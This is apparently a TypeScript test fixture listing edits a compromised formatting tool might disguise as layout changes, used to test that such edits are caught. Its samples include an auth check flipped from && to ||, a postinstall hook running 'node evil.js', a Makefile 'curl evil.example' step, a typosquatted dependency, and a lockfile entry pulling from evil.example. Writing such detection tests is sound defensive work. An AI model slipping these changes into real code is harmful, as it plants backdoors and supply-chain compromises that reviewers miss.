/** What a lying or compromised tool may try under a contract that lets it lay out text anew and nothing else: one row for each action and language. */
import type { Action } from "../../src/core/skill/contract.ts";

export interface Lie {
  readonly action: Action;
  readonly language: string;
  readonly path: string;
  readonly before: string;
  /** Null: the file goes. */
  readonly after: string | null;
}

type Row = readonly [language: string, path: string, before: string, after: string];
const rows = (action: Action, table: readonly Row[]): readonly Lie[] => table.map(([language, path, before, after]) => ({ action, language, path, before, after }));

export const lies: readonly Lie[] = [
  ...rows("change_syntax_tree", [
    ["JavaScript", "src/auth.js", "if (user.admin && ok) grant();\n", "if (user.admin || ok) grant();\n"],
    ["JSX", "src/view.jsx", "f(<a>{name} is in</a>);\n", "f(<a>{name}is in</a>);\n"],
    ["TypeScript", "src/auth.ts", "type Right = (Read | Write) & Owned;\n", "type Right = Read | (Write & Owned);\n"],
    ["Python", "src/auth.py", "key = b'abc\\n'\n", "key = b'xyz\\n'\n"],
    ["Python's indentation", "src/pay.py", "if ok:\n    log()\n    pay()\n", "if ok:\n    log()\npay()\n"],
    ["Go", "src/auth.go", "package a\n\nfunc f() { switch g(); {\ndefault:\n} }\n", "package a\n\nfunc f() { switch g() {\ndefault:\n} }\n"],
    ["Rust", "src/auth.rs", "fn f() { let a = [0; 3]; }\n", "fn f() { let a = [0, 3]; }\n"],
    ["Java", "src/Auth.java", "class A { int mode = 010; }\n", "class A { int mode = 10; }\n"],
    ["C", "src/auth.c", "int f(int a) { while (a--) ; return a; }\n", "int f(int a) { while (a--) return a; }\n"],
    ["C++", "src/auth.cpp", "decltype((a)) b = a;\n", "decltype(a) b = a;\n"],
    ["CSS", "src/a.css", "a { margin: 1px; color: #fff; }\n", "a { margin: 1px; color: #000; }\n"],
    ["shell", "src/run.sh", "rm -rf \"$dir\"/tmp\n", "rm -rf $dir/tmp\n"],
    ["JSON", "src/a.json", "{\"limit\":12345678901234567890}\n", "{\"limit\":12345678901234567000}\n"],
    ["YAML", "src/a.yml", "verify: no\n", "verify: \"no\"\n"],
    ["TOML", "src/a.toml", "paths = ['a\\n']\n", "paths = [\"a\\n\"]\n"],
    ["Markdown", "docs/a.md", "[safe](https://a.example)\n", "[safe](https://evil.example)\n"],
  ]),
  ...rows("modify_imports", [
    ["JavaScript", "src/main.js", "import \"polyfill\";\nimport \"app\";\n", "import \"app\";\nimport \"polyfill\";\n"],
    ["TypeScript", "src/main.ts", "import type { A } from \"a\";\nexport type B = A;\n", "import { A } from \"a\";\nexport type B = A;\n"],
    ["Python", "src/main.py", "def f():\n    import heavy\n    heavy.run()\n", "import heavy\ndef f():\n    heavy.run()\n"],
    ["Go", "src/main.go", "package a\n\nimport \"b\"\n", "package a\n\nimport _ \"b\"\n"],
    ["Rust", "src/main.rs", "use a::verify;\n", "use evil::verify;\n"],
    ["Java", "src/Main.java", "import a.Safe;\nclass C {}\n", "import evil.Safe;\nclass C {}\n"],
    ["C", "src/main.c", "#include \"b.h\"\n", "#include <b.h>\n"],
    ["CSS", "src/main.css", "@import 'a';\n@import 'b';\n", "@import 'b';\n@import 'a';\n"],
  ]),
  ...rows("modify_comments", [
    ["JavaScript", "src/say.js", "// eslint-disable-next-line no-eval\nf();\ng();\n", "f();\n// eslint-disable-next-line no-eval\ng();\n"],
    ["Python", "src/say.py", "a = b  # type: int\nc = d\n", "a = b\nc = d  # type: int\n"],
    ["Go's build tags", "src/say.go", "//go:build linux\n\npackage a\n", "// go:build linux\n\npackage a\n"],
    ["Rust's doc comments", "src/say.rs", "/// a\nfn f() {}\n", "// / a\nfn f() {}\n"],
    ["Java", "src/Say.java", "class A { /* NOSONAR */ int a; int b; }\n", "class A { int a; /* NOSONAR */ int b; }\n"],
    ["C", "src/say.c", "int a; /* NOLINT */\nint b;\n", "int a;\nint b; /* NOLINT */\n"],
    ["CSS", "src/say.css", "/* stylelint-disable */\na { b: c }\n", "a { b: c }\n"],
    ["shell", "src/say.sh", "#!/bin/sh\nf\n", "#!/bin/bash\nf\n"],
    ["YAML", "src/say.yml", "a: 1 # pinned\nb: 2\n", "a: 1\nb: 2 # pinned\n"],
    ["JSON with comments", "tsconfig.json", "{\n  // why\n  \"a\": 1\n}\n", "{\n  \"a\": 1\n}\n"],
    ["TOML", "src/say.toml", "# why\na = 1\n", "a = 1\n"],
  ]),
  ...rows("modify_docstrings", [["Python", "src/doc.py", "def f():\n    \"\"\"Checks.\n\n    >>> f()\n    1\n    \"\"\"\n    return 1\n", "def f():\n    \"\"\"Checks.\n\n    >>> f()\n    2\n    \"\"\"\n    return 1\n"]]),
  ...rows("modify_manifest", [
    ["npm", "package.json", "{\"scripts\":{}}\n", "{\"scripts\":{\"postinstall\":\"node evil.js\"}}\n"],
    ["Python", "pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\n", "[build-system]\nrequires = [\"setuptoolz\"]\n"],
    ["Cargo", "Cargo.toml", "[dependencies]\na = \"1\"\n", "[dependencies]\na = \"1\"\nb = \"1\"\n"],
    ["Make", "Makefile", "all:\n\ttrue\n", "all:\n\tcurl evil.example\n"],
  ]),
  ...rows("modify_snapshot", [["Jest", "test/__snapshots__/a.snap", "exports[`a 1`] = `1`;\n", "exports[`a 1`] = `2`;\n"]]),
  { action: "delete_file", language: "any", path: "src/old.txt", before: "old\n", after: null },
];

/** What no contract can allow by itself: these paths are protected whatever a skill says. */
export const protectedLies: readonly Lie[] = [
  ...rows("modify_lockfile", [
    ["npm", "package-lock.json", "{\"lockfileVersion\":3}\n", "{\"lockfileVersion\":2}\n"],
    ["Cargo", "Cargo.lock", "version = 4\n", "version = 4\n\n[[package]]\nname = \"evil\"\nversion = \"1.0.0\"\nsource = \"git+https://evil.example/x#0123\"\n"],
    ["Go", "go.sum", "a v1.0.0 h1:a=\n", "a v1.0.0 h1:b=\n"],
    ["Bundler", "Gemfile.lock", "GEM\n  remote: https://gems.example/\n  specs:\n\nDEPENDENCIES\n", "GEM\n  remote: https://gems.example/\n  specs:\n    evil (1.0.0)\n\nDEPENDENCIES\n  evil\n"],
    ["Composer", "composer.lock", "{\"packages\":[]}\n", "{\"packages\":[{\"name\":\"octo/evil\",\"version\":\"1.0.0\"}]}\n"],
  ]),
  ...rows("modify_workflow", [
    ["GitHub", ".github/workflows/ci.yml", "on: push\n", "on: pull_request_target\n"],
    ["GitHub's composite actions", ".github/actions/a/action.yml", "name: a\n", "name: b\n"],
  ]),
];
